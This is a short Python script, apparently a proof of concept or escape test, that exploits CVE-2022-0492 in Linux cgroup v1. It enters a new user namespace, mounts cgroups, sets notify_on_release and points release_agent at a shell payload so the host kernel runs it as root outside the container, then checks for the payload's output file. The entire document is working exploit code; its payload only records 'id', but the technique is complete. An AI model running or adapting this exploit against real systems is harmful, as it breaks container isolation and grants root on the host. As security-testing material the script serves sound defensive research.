# CVE-2022-0492: whoever may write `release_agent` of a version 1 control group names the program that the host's kernel
# then runs as root, outside of every namespace.
import os
import time
from pathlib import Path

from kit import attempt, finish, step, syscall, write

Path("payload.sh").write_text("#!/bin/sh\nid > /work/from-the-host\n")
os.chmod("payload.sh", 0o755)
os.mkdir("group")
attempt("mount a control group", lambda: syscall(165, b"cgroup", b"/work/group", b"cgroup", 0, b"rdma"))
step("a user namespace of my own", lambda: syscall(272, 0x10000000 | 0x00020000 | 0x02000000))
step("the same with its root", lambda: syscall(165, b"cgroup", b"/work/group", b"cgroup", 0, b"memory"))
for folder in ["/work/group", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpu", "/sys/fs/cgroup/rdma", "/sys/fs/cgroup"]:
    step(f"{folder}/escape", os.mkdir, f"{folder}/escape")
    step(f"{folder} notify", write, f"{folder}/escape/notify_on_release", "1")
    step(f"{folder} agent", write, f"{folder}/release_agent", "/work/payload.sh")
    step(f"{folder} leave", write, f"{folder}/escape/cgroup.procs", "0")
time.sleep(0.3)
attempt("the payload ran", lambda: Path("from-the-host").read_text())
finish()
